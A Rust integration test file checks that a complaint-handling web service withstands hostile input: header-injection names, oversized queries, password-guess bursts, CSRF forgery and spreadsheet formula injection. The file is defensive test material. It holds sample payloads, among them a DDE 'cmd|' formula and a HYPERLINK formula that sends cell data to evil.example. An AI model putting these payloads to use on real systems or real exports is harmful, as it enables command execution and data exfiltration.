//! Hostile input (issue 10): what a visitor types or sends can neither stop the office, leak
//! data nor crash a request. Each test failed on the code before the fix it names.

use reqwest::StatusCode;
use serde_json::json;

use crate::helpers::*;
use crate::pages::Visitor;

#[tokio::test]
async fn one_line_fields_refuse_control_characters_and_multi_line_fields_keep_line_breaks() {
    let app = spawn_app().await;
    let body = json!({"email": "eve@example.tw", "password": PASSWORD, "name": "Eve\nNewline"});
    let refused = expect_error(
        app.post("/api/v1/auth/register", None, &body).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    assert!(refused["fields"]["name"][0].as_str().unwrap().contains("one line"), "{refused}");
    for name in ["tab\there", "nul\u{0}", "del\u{7f}", "sep\u{2028}arator"] {
        let body = json!({"email": "eve@example.tw", "password": PASSWORD, "name": name});
        let refused = expect_error(
            app.post("/api/v1/auth/register", None, &body).await,
            StatusCode::UNPROCESSABLE_ENTITY,
            "validation_failed",
        )
        .await;
        assert!(refused["fields"]["name"].is_array(), "{name:?}: {refused}");
    }

    let cast = app.cast().await;
    let paper = |name: &str, description: &str| {
        json!({
            "business_id": cast.business_id, "category": "appliances", "description": description,
            "requested_resolution": "退款", "consumer": {"name": name}, "channel": "mail",
        })
    };
    let injected = paper("Mallory\r\nBcc: x@evil.example", "正常的描述");
    let refused = expect_error(
        app.post("/api/v1/cases", Some(&cast.clerk), &injected).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    assert!(refused["fields"]["consumer.name"].is_array(), "{refused}");
    // A description keeps its line breaks, but no other control character.
    let filed = expect_status(
        app.post("/api/v1/cases", Some(&cast.clerk), &paper("王小明", "第一行\r\n第二行")).await,
        StatusCode::CREATED,
    )
    .await;
    assert_eq!(filed["description"], "第一行\r\n第二行");
    let refused = expect_error(
        app.post("/api/v1/cases", Some(&cast.clerk), &paper("王小明", "bell\u{7}")).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    assert!(refused["fields"]["description"].is_array(), "{refused}");
    // An action name is exactly a name.
    let id = filed["id"].as_str().unwrap();
    let refused = expect_error(
        app.act(&cast.clerk, id, "withdraw\n", json!({})).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    assert!(refused["fields"]["action"].is_array());
    assert_eq!(app.case(&cast.clerk, id).await["status"], "submitted");
}

#[tokio::test]
async fn searches_and_pages_out_of_range_answer_422_not_500() {
    let app = spawn_app().await;
    let cast = app.cast().await;
    let filed = app.file_online(&cast.citizen, &cast.business_id).await;
    let case_id = filed["id"].as_str().unwrap();
    let long_q = "x".repeat(60_000);
    for path in ["/api/v1/cases", "/api/v1/businesses"] {
        let refused = expect_error(
            app.get(&format!("{path}?q={long_q}"), Some(&cast.officer)).await,
            StatusCode::UNPROCESSABLE_ENTITY,
            "validation_failed",
        )
        .await;
        assert!(refused["fields"]["q"].is_array(), "{path}: {refused}");
        let q = "x".repeat(201);
        expect_error(
            app.get(&format!("{path}?q={q}"), Some(&cast.officer)).await,
            StatusCode::UNPROCESSABLE_ENTITY,
            "validation_failed",
        )
        .await;
        let q = "x".repeat(200);
        expect_status(app.get(&format!("{path}?q={q}"), Some(&cast.officer)).await, StatusCode::OK).await;
    }
    let lists = [
        ("/api/v1/cases", &cast.officer),
        ("/api/v1/businesses", &cast.officer),
        ("/api/v1/consultations", &cast.officer),
        ("/api/v1/inspections", &cast.officer),
        ("/api/v1/education-events", &cast.officer),
        ("/api/v1/meetings", &cast.officer),
        (&format!("/api/v1/cases/{case_id}/access-log") as &str, &cast.officer),
        ("/api/v1/users", &cast.admin),
        ("/api/v1/admin/deliveries", &cast.admin),
    ];
    for (path, token) in lists {
        for page in ["9223372036854775808", "99999999999999999999", "0", "-1"] {
            let refused = expect_error(
                app.get(&format!("{path}?page={page}"), Some(token)).await,
                StatusCode::UNPROCESSABLE_ENTITY,
                "validation_failed",
            )
            .await;
            assert!(refused["fields"]["page"].is_array(), "{path}?page={page}: {refused}");
        }
        let far =
            expect_status(app.get(&format!("{path}?page=2147483647&per_page=100"), Some(token)).await, StatusCode::OK)
                .await;
        assert_eq!(far["items"], json!([]), "{path}: a page past the last is empty");
        assert_eq!(far["per_page"], 100);
    }
}

#[tokio::test]
async fn dates_reach_back_to_the_act_in_force_and_no_further() {
    let app = spawn_app().await;
    let cast = app.cast().await;
    let paper = |received_at: &str| {
        json!({
            "business_id": cast.business_id, "category": "appliances", "description": "紙本舊案",
            "requested_resolution": "退款", "consumer": {"name": "王小明"}, "channel": "mail",
            "received_at": received_at,
        })
    };
    let old = expect_status(
        app.post("/api/v1/cases", Some(&cast.clerk), &paper("1994-01-13T09:00:00+08:00")).await,
        StatusCode::CREATED,
    )
    .await;
    assert!(old["case_no"].as_str().unwrap().starts_with("KH-083-"), "{}", old["case_no"]);
    let refused = expect_error(
        app.post("/api/v1/cases", Some(&cast.clerk), &paper("1994-01-12T23:00:00+08:00")).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    assert!(refused["fields"]["received_at"][0].as_str().unwrap().contains("1994-01-13"), "{refused}");
    let event = json!({"held_on": "1993-12-31", "kind": "lecture", "title": "宣導"});
    expect_error(
        app.post("/api/v1/education-events", Some(&cast.officer), &event).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    let event = json!({"held_on": "1999-06-01", "kind": "lecture", "title": "宣導"});
    expect_status(app.post("/api/v1/education-events", Some(&cast.officer), &event).await, StatusCode::CREATED).await;
}

#[tokio::test]
async fn a_page_form_with_a_line_break_in_its_action_changes_nothing() {
    let app = spawn_app().await;
    let cast = app.cast().await;
    let filed = app.file_online(&cast.citizen, &cast.business_id).await;
    let id = filed["id"].as_str().unwrap();
    let mut visitor = Visitor::signed_in(&app, "mei@example.tw", PASSWORD).await;
    let page =
        visitor.submit(&format!("/cases/{id}/act"), &[("action", "withdraw\n"), ("expected_version", "1")]).await;
    assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", page.html);
    assert_eq!(app.case(&cast.citizen, id).await["status"], "submitted");
    let page = visitor.submit(&format!("/cases/{id}/act"), &[("action", "withdraw")]).await;
    assert_eq!(page.status, StatusCode::SEE_OTHER);
    assert_eq!(page.location, format!("/cases/{id}?done=withdraw"));
}

/// Writes a name straight into the database, as a record from before the input rules would
/// hold it.
async fn set_name_in_database(app: &TestApp, email: &str, name: &str) {
    use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, sea_query::Expr};
    entity::user::Entity::update_many()
        .col_expr(entity::user::Column::Name, Expr::value(name))
        .filter(entity::user::Column::Email.eq(email))
        .exec(&app.state.db)
        .await
        .unwrap();
}

/// Waits (up to 10 s) for the timer-driven job to have sent a message about `case`.
async fn sent_about(app: &TestApp, admin: &str, case: &serde_json::Value) -> bool {
    for _ in 0..50 {
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        let sent = expect_status(
            app.get("/api/v1/admin/deliveries?status=sent&per_page=100", Some(admin)).await,
            StatusCode::OK,
        )
        .await;
        if sent["items"].as_array().unwrap().iter().any(|m| m["case_no"] == case["case_no"]) {
            return true;
        }
    }
    false
}

#[tokio::test]
async fn a_name_that_breaks_a_mail_header_fails_that_mail_only_and_the_job_goes_on() {
    let app = spawn_app_with(vec![("jobs.interval_seconds", 1.into())]).await;
    let cast = app.cast().await;
    set_name_in_database(&app, "mei@example.tw", "Eve\nNewline").await;
    let bad = app.file_online(&cast.citizen, &cast.business_id).await;
    let admin = app.admin_token().await;

    // The timer-driven job meets the bad message, marks it failed, and keeps running: mail
    // queued afterwards still goes out.
    let good = app.file_online(&cast.other_citizen, &cast.business_id).await;
    assert!(sent_about(&app, &admin, &good).await, "mail after the bad record was still delivered");
    let failed =
        expect_status(app.get("/api/v1/admin/deliveries?status=failed", Some(&admin)).await, StatusCode::OK).await;
    assert_eq!(failed["total"], 1, "{failed}");
    let message = &failed["items"][0];
    assert!(message["last_error"].as_str().unwrap().contains("line break"), "{message}");
    assert_eq!(message["attempts"], 1, "failed at once, not retried into the same wall");
    assert_eq!(message["case_no"], bad["case_no"]);
    // Admins see no cases: the address is masked and the case named by its number only.
    assert_eq!(message["recipient"], "m***@example.tw", "{message}");
    assert!(message.get("recipient_email").is_none() && message.get("case_id").is_none(), "{message}");

    let ready = expect_status(app.get("/readyz", None).await, StatusCode::OK).await;
    assert_eq!(ready["jobs"]["status"], "running", "{ready}");
    assert!(ready["jobs"]["last_run_at"].is_string(), "{ready}");

    // Corrected, and retried by an admin, it goes out.
    expect_status(app.patch("/api/v1/me", Some(&cast.citizen), &json!({"name": "Eve Newline"})).await, StatusCode::OK)
        .await;
    let id = message["id"].as_str().unwrap();
    let retried = expect_status(
        app.post(&format!("/api/v1/admin/deliveries/{id}/retry"), Some(&admin), &json!({})).await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(retried["status"], "pending");
    assert!(sent_about(&app, &admin, &bad).await, "the corrected message is delivered");
}

#[tokio::test]
async fn metrics_answer_only_loopback_or_the_configured_token() {
    let app = spawn_app().await;
    app.run_jobs().await;
    app.get("/healthz", None).await; // a request to count
    let text = app.get("/metrics", None).await.text().await.unwrap();
    assert!(text.contains("http_requests_total"), "loopback may read");

    let behind_proxy = spawn_app_with(vec![("server.trust_forwarded_for", true.into())]).await;
    let remote = behind_proxy
        .client
        .get(behind_proxy.url("/metrics"))
        .header("x-forwarded-for", "203.0.113.5")
        .send()
        .await
        .unwrap();
    expect_error(remote, StatusCode::NOT_FOUND, "not_found").await;

    let token = "metrics-token-0123456789";
    let guarded = spawn_app_with(vec![("metrics.token", token.into())]).await;
    expect_error(guarded.get("/metrics", None).await, StatusCode::UNAUTHORIZED, "unauthorized").await;
    expect_error(
        guarded.get("/metrics", Some("wrong-token-0123456789")).await,
        StatusCode::UNAUTHORIZED,
        "unauthorized",
    )
    .await;
    let text = guarded.get("/metrics", Some(token)).await.text().await.unwrap();
    assert!(text.contains("background_job_stalled"), "{text}");
}

#[tokio::test]
async fn a_burst_of_guesses_gets_no_more_password_checks_than_the_limit() {
    let app = spawn_app().await;
    app.register("target@example.tw", "T").await;
    let guesses = (0..150).map(|_| app.login("target@example.tw", "guess-guess-1"));
    let right = app.login("target@example.tw", PASSWORD);
    let (guesses, right) = tokio::join!(futures_util::future::join_all(guesses), right);
    let checked = guesses.iter().filter(|r| r.status() == StatusCode::UNAUTHORIZED).count();
    let refused = guesses.iter().filter(|r| r.status() == StatusCode::TOO_MANY_REQUESTS).count();
    assert!(checked <= 5, "{checked} passwords were compared");
    assert_eq!(checked + refused, 150, "every other guess is refused with 429");
    // The right password in the same burst either had one of the five checks or was refused.
    assert!(matches!(right.status(), StatusCode::OK | StatusCode::TOO_MANY_REQUESTS), "{}", right.status());
    if right.status() == StatusCode::TOO_MANY_REQUESTS {
        expect_error(
            app.login("target@example.tw", PASSWORD).await,
            StatusCode::TOO_MANY_REQUESTS,
            "too_many_requests",
        )
        .await;
    }
}

#[tokio::test]
async fn guessing_behind_a_shared_address_does_not_lock_out_those_who_signed_in_there_before() {
    let app =
        spawn_app_with(vec![("server.trust_forwarded_for", true.into()), ("auth.max_failed_logins", 2.into())]).await;
    let from = |address: &'static str, email: &'static str, password: &'static str| {
        app.client
            .post(app.url("/api/v1/auth/login"))
            .header("x-forwarded-for", address)
            .json(&json!({"email": email, "password": password}))
            .send()
    };
    app.register("teacher@school.example", "T").await;
    app.register("newcomer@school.example", "N").await;
    expect_status(from("10.1.1.1", "teacher@school.example", PASSWORD).await.unwrap(), StatusCode::OK).await;
    // Someone at the school's address sprays guesses over many accounts: 4 × 2 failures lock it.
    for i in 0..8 {
        let response =
            from("10.1.1.1", ["a@x.example", "b@x.example", "c@x.example", "d@x.example"][i % 4], "guess-guess-1");
        expect_error(response.await.unwrap(), StatusCode::UNAUTHORIZED, "invalid_credentials").await;
    }
    // The teacher, who has signed in from there before, still gets in; a newcomer waits.
    expect_status(from("10.1.1.1", "teacher@school.example", PASSWORD).await.unwrap(), StatusCode::OK).await;
    expect_error(
        from("10.1.1.1", "newcomer@school.example", PASSWORD).await.unwrap(),
        StatusCode::TOO_MANY_REQUESTS,
        "too_many_requests",
    )
    .await;
    expect_status(from("10.2.2.2", "newcomer@school.example", PASSWORD).await.unwrap(), StatusCode::OK).await;
    // Trust is per account: guessing at the teacher's account is still limited by its own count.
    for _ in 0..2 {
        expect_error(
            from("10.1.1.1", "teacher@school.example", "guess-guess-1").await.unwrap(),
            StatusCode::UNAUTHORIZED,
            "invalid_credentials",
        )
        .await;
    }
    expect_error(
        from("10.1.1.1", "teacher@school.example", PASSWORD).await.unwrap(),
        StatusCode::TOO_MANY_REQUESTS,
        "too_many_requests",
    )
    .await;
}

#[tokio::test]
async fn registrations_are_limited_per_address() {
    let app = spawn_app_with(vec![("server.trust_forwarded_for", true.into())]).await;
    let register = |address: &'static str, i: usize| {
        app.client
            .post(app.url("/api/v1/auth/register"))
            .header("x-forwarded-for", address)
            .json(&json!({"email": format!("r{i}@example.tw"), "password": PASSWORD, "name": "R"}))
            .send()
    };
    for i in 0..5 {
        expect_status(register("10.3.3.3", i).await.unwrap(), StatusCode::CREATED).await;
    }
    expect_error(register("10.3.3.3", 5).await.unwrap(), StatusCode::TOO_MANY_REQUESTS, "too_many_requests").await;
    expect_status(register("10.4.4.4", 6).await.unwrap(), StatusCode::CREATED).await;
}

#[tokio::test]
async fn a_business_a_citizen_names_is_for_staff_eyes_and_never_takes_the_real_ones_number() {
    let app = spawn_app().await;
    let cast = app.cast().await;
    let named = json!({
        "business": {"name": "新開幕電信行", "tax_id": "10458575"}, "category": "communications",
        "description": "門號綁約糾紛", "requested_resolution": "解約",
    });
    let filed = expect_status(app.post("/api/v1/cases", Some(&cast.citizen), &named).await, StatusCode::CREATED).await;
    let unverified = filed["business"]["id"].as_str().unwrap().to_string();
    assert_eq!(filed["business"]["verified"], false);
    assert_eq!(filed["business"]["tax_id"], "10458575", "the filer sees the number they gave");

    // Nobody else learns that a complaint names it.
    for token in [&cast.other_citizen, &cast.business] {
        let found = expect_status(app.get("/api/v1/businesses?q=新開幕", Some(token)).await, StatusCode::OK).await;
        assert_eq!(found["total"], 0, "{found}");
        expect_error(
            app.get(&format!("/api/v1/businesses/{unverified}"), Some(token)).await,
            StatusCode::NOT_FOUND,
            "not_found",
        )
        .await;
    }
    let staff_view =
        expect_status(app.get("/api/v1/businesses?q=新開幕", Some(&cast.clerk)).await, StatusCode::OK).await;
    assert_eq!(staff_view["items"][0]["claimed_tax_id"], "10458575");

    // The real business registers its number all the same, and staff merge the two.
    let real = app.create_business(&cast.clerk, json!({"name": "新開幕電信股份有限公司", "tax_id": "10458575"})).await;
    let real_id = real["id"].as_str().unwrap();
    let merged = expect_status(
        app.post(&format!("/api/v1/businesses/{unverified}/merge"), Some(&cast.clerk), &json!({"into": real_id})).await,
        StatusCode::OK,
    )
    .await;
    assert_eq!(merged["cases_moved"], 1);
    let case = app.case(&cast.citizen, filed["id"].as_str().unwrap()).await;
    assert_eq!(case["business"]["id"], real_id);
    expect_error(
        app.get(&format!("/api/v1/businesses/{unverified}"), Some(&cast.clerk)).await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;
    // The next citizen naming the number reaches the registered business.
    let again =
        expect_status(app.post("/api/v1/cases", Some(&cast.other_citizen), &named).await, StatusCode::CREATED).await;
    assert_eq!(again["business"]["id"], real_id);
    // Merging needs an unverified source.
    expect_error(
        app.post(&format!("/api/v1/businesses/{real_id}/merge"), Some(&cast.clerk), &json!({"into": cast.business_id}))
            .await,
        StatusCode::CONFLICT,
        "invalid_transition",
    )
    .await;
}

#[tokio::test]
async fn exports_neutralise_formulas_and_record_who_read_the_personal_data() {
    let app = spawn_app().await;
    let cast = app.cast().await;
    let evil_business = app.create_business(&cast.clerk, json!({"name": "=1+cmd|' /C calc'!A0"})).await;
    let paper = json!({
        "business_id": evil_business["id"], "category": "appliances", "description": "@SUM(1+1)",
        "requested_resolution": "-2+3", "consumer": {"name": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"},
        "channel": "mail",
    });
    let filed = expect_status(app.post("/api/v1/cases", Some(&cast.clerk), &paper).await, StatusCode::CREATED).await;
    let case_id = filed["id"].as_str().unwrap();
    let today = chrono::Utc::now().with_timezone(&chrono::FixedOffset::east_opt(8 * 3600).unwrap()).date_naive();
    let period = format!("from={today}&to={today}");

    for anonymous in [false, true] {
        let response =
            app.get(&format!("/api/v1/exports/cases.csv?{period}&anonymous={anonymous}"), Some(&cast.clerk)).await;
        let bytes = response.bytes().await.unwrap();
        let mut reader = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
        let mut seen_business = false;
        for record in reader.records() {
            for field in record.unwrap().iter() {
                assert!(!field.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live formula: {field:?}");
                seen_business |= field == "'=1+cmd|' /C calc'!A0";
            }
        }
        assert!(seen_business, "the business name is there, as text (anonymous={anonymous})");
    }
    // In XLSX the same text is a text cell, as typed.
    let xlsx = app.get(&format!("/api/v1/exports/cases.xlsx?{period}"), Some(&cast.clerk)).await.bytes().await.unwrap();
    let mut book: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx.to_vec())).unwrap();
    use calamine::Reader;
    let range = book.worksheet_range("cases").unwrap();
    assert!(
        range
            .rows()
            .any(|row| row.iter().any(|c| matches!(c, calamine::Data::String(s) if s == "=1+cmd|' /C calc'!A0")))
    );

    // Two exports with personal data (CSV, XLSX) are reads of the case; the anonymous one is not.
    let log = expect_status(
        app.get(&format!("/api/v1/cases/{case_id}/access-log"), Some(&cast.officer)).await,
        StatusCode::OK,
    )
    .await;
    let exports = log["items"].as_array().unwrap().iter().filter(|e| e["what"] == "export").count();
    assert_eq!(exports, 2, "{log}");
}

#[tokio::test]
async fn a_mediators_read_of_a_meeting_is_logged_on_each_case_of_its_agenda() {
    use crate::mediation::{accepted_case, agenda, meeting};
    let app = spawn_app().await;
    let cast = app.cast().await;
    let mediator_id =
        expect_status(app.get("/api/v1/me", Some(&cast.mediator)).await, StatusCode::OK).await["id"].clone();
    let case_id = accepted_case(&app, &cast, 2, 20_000).await;
    let m = meeting(&app, &cast, &days_ago(-3, 14), &[mediator_id.as_str().unwrap()]).await;
    let meeting_id = m["id"].as_str().unwrap();
    expect_status(agenda(&app, &cast, meeting_id, &case_id).await, StatusCode::CREATED).await;
    let read =
        expect_status(app.get(&format!("/api/v1/meetings/{meeting_id}"), Some(&cast.mediator)).await, StatusCode::OK)
            .await;
    assert_eq!(read["agenda"][0]["consumer_name"], "周小姐");
    let log = expect_status(
        app.get(&format!("/api/v1/cases/{case_id}/access-log"), Some(&cast.officer)).await,
        StatusCode::OK,
    )
    .await;
    let by_mediator: Vec<_> = log["items"].as_array().unwrap().iter().filter(|e| e["role"] == "mediator").collect();
    assert!(by_mediator.iter().any(|e| e["what"] == "meeting"), "{log}");
}

#[tokio::test]
async fn page_csrf_tokens_are_bound_to_the_sign_in_and_rotated_at_it() {
    let app = spawn_app().await;
    app.register("mei@example.tw", "陳美玲").await;
    let mut visitor = Visitor::new(&app);
    let before = visitor.csrf().await;
    let nonce_before = visitor.cookies["__Host-cp_csrf"].clone();
    let signed_in = visitor.submit("/signin", &[("email", "mei@example.tw"), ("password", PASSWORD)]).await;
    assert_eq!(signed_in.status, StatusCode::SEE_OTHER);
    assert!(visitor.set_cookies["__Host-cp_csrf"].contains("Secure"), "a __Host- cookie is Secure");
    assert_ne!(visitor.cookies["__Host-cp_csrf"], nonce_before, "a new nonce at sign-in");
    // The token of the signed-out page no longer works once signed in.
    let stale = visitor.post_form("/signout", &[("csrf", &before)]).await;
    assert_eq!(stale.status, StatusCode::FORBIDDEN);

    // A cookie planted by someone else, with the same value in the form, is useless.
    visitor.cookies.insert("__Host-cp_csrf".into(), "planted-planted-planted-0123".into());
    let planted = visitor.post_form("/signout", &[("csrf", "planted-planted-planted-0123")]).await;
    assert_eq!(planted.status, StatusCode::FORBIDDEN);
    // Even a pair the attacker got from the site for themself is bound to no sign-in of hers.
    let mut attacker = Visitor::new(&app);
    let their_token = attacker.csrf().await;
    visitor.cookies.insert("__Host-cp_csrf".into(), attacker.cookies["__Host-cp_csrf"].clone());
    let borrowed = visitor.post_form("/signout", &[("csrf", &their_token)]).await;
    assert_eq!(borrowed.status, StatusCode::FORBIDDEN);
    assert_eq!(visitor.get("/cases").await.status, StatusCode::OK, "still signed in");

    // Plain-HTTP testing on another host: no __Host- prefix (it needs Secure).
    let plain = spawn_app_with(vec![("server.secure_cookies", false.into())]).await;
    let mut visitor = Visitor::new(&plain);
    visitor.get("/").await;
    assert!(visitor.cookies.contains_key("cp_csrf") && !visitor.set_cookies["cp_csrf"].contains("Secure"));
}

#[tokio::test]
async fn every_response_carries_the_security_headers() {
    let app = spawn_app().await;
    for (path, status) in [
        ("/api/v1/reference", StatusCode::OK),
        ("/api/v1/me", StatusCode::UNAUTHORIZED),
        ("/api/openapi.json", StatusCode::OK),
        ("/docs/", StatusCode::OK),
        ("/healthz", StatusCode::OK),
        ("/no-such-thing", StatusCode::NOT_FOUND),
        ("/", StatusCode::OK),
    ] {
        let response = app.get(path, None).await;
        assert_eq!(response.status(), status, "{path}");
        let headers = response.headers();
        for name in ["content-security-policy", "x-frame-options", "x-content-type-options", "referrer-policy"] {
            assert!(headers.contains_key(name), "{path} lacks {name}");
        }
        assert!(headers["content-security-policy"].to_str().unwrap().contains("frame-ancestors 'none'"), "{path}");
    }
    let api = app.get("/api/v1/reference", None).await;
    assert_eq!(api.headers()["cache-control"], "no-store");
    assert!(api.headers()["content-security-policy"].to_str().unwrap().starts_with("default-src 'none'"));
}

#[tokio::test]
async fn a_case_holds_a_limited_number_and_size_of_files() {
    let app = spawn_app_with(vec![
        ("attachments.max_bytes", 1000.into()),
        ("attachments.max_per_case", 2.into()),
        ("attachments.max_total_bytes_per_case", 1500.into()),
    ])
    .await;
    let cast = app.cast().await;
    let filed = app.file_online(&cast.citizen, &cast.business_id).await;
    let id = filed["id"].as_str().unwrap();
    for _ in 0..2 {
        expect_status(upload(&app, &cast.citizen, id, "receipt.png", PNG.to_vec()).await, StatusCode::CREATED).await;
    }
    let refused = expect_error(
        upload(&app, &cast.citizen, id, "receipt.png", PNG.to_vec()).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation_failed",
    )
    .await;
    assert!(refused["fields"]["file"][0].as_str().unwrap().contains("at most 2 files"), "{refused}");

    let other = app.file_online(&cast.citizen, &cast.business_id).await;
    let other = other["id"].as_str().unwrap();
    expect_status(upload(&app, &cast.citizen, other, "note.txt", vec![b'a'; 900]).await, StatusCode::CREATED).await;
    let full = expect_error(
        upload(&app, &cast.citizen, other, "more.txt", vec![b'b'; 700]).await,
        StatusCode::PAYLOAD_TOO_LARGE,
        "payload_too_large",
    )
    .await;
    assert!(full["detail"].as_str().unwrap().contains("600"), "{full}");
    let case = app.case(&cast.citizen, other).await;
    assert_eq!(case["attachments"].as_array().unwrap().len(), 1, "nothing half-added");
}

/// The served document is a contract: what Schemathesis checks in .ci/run, in brief.
#[tokio::test]
async fn the_openapi_document_states_the_rules_the_server_enforces() {
    let app = spawn_app().await;
    let doc = expect_status(app.get("/api/openapi.json", None).await, StatusCode::OK).await;
    let paths = doc["paths"].as_object().unwrap();
    for (path, item) in paths {
        for (method, operation) in item.as_object().unwrap() {
            let responses = operation["responses"].as_object().unwrap();
            if operation.get("requestBody").is_some() {
                for status in ["400", "413", "415", "422"] {
                    assert!(responses.contains_key(status), "{method} {path} does not document {status}");
                }
            }
            if operation["security"].as_array().is_some_and(|s| !s.is_empty()) {
                assert!(responses.contains_key("401") && responses.contains_key("403"), "{method} {path}");
            }
            if path.contains('{') {
                assert!(responses.contains_key("404"), "{method} {path}");
            }
        }
    }
    // Create operations link to the reads of what they made.
    let links = &doc["paths"]["/api/v1/cases"]["post"]["responses"]["201"]["links"];
    assert_eq!(links["get_case"]["parameters"]["id"], "$response.body#/id");
    assert!(doc["paths"]["/api/v1/meetings"]["post"]["responses"]["201"]["links"]["add_agenda"].is_object());
    // Codes are the configured lists; text fields carry their limits and characters.
    let body = &doc["components"]["schemas"]["FileCaseBody"]["properties"];
    let categories = body["category"]["enum"].as_array().unwrap();
    assert!(categories.contains(&json!("appliances")) && !categories.contains(&json!(null)));
    assert_eq!(body["description"]["maxLength"], 5000);
    assert!(body["description"]["pattern"].as_str().unwrap().contains("\\u0000-\\u0009"));
    let register = &doc["components"]["schemas"]["RegisterBody"];
    assert_eq!(register["properties"]["name"]["type"], "string", "a required field is never null");
    assert!(register["properties"]["email"]["pattern"].is_string());
    let cases = doc["paths"]["/api/v1/cases"]["get"]["parameters"].as_array().unwrap();
    let q = cases.iter().find(|p| p["name"] == "q").unwrap();
    assert_eq!(q["schema"]["maxLength"], 200);
    let page = cases.iter().find(|p| p["name"] == "page").unwrap();
    assert_eq!((page["schema"]["minimum"].as_i64(), page["schema"]["maximum"].as_i64()), (Some(1), Some(2147483647)));
    let from = cases.iter().find(|p| p["name"] == "from").unwrap();
    assert_eq!(from["schema"]["type"], "string", "a query value is never null");
    assert!(from["schema"]["pattern"].as_str().unwrap().contains("02-29"));
}
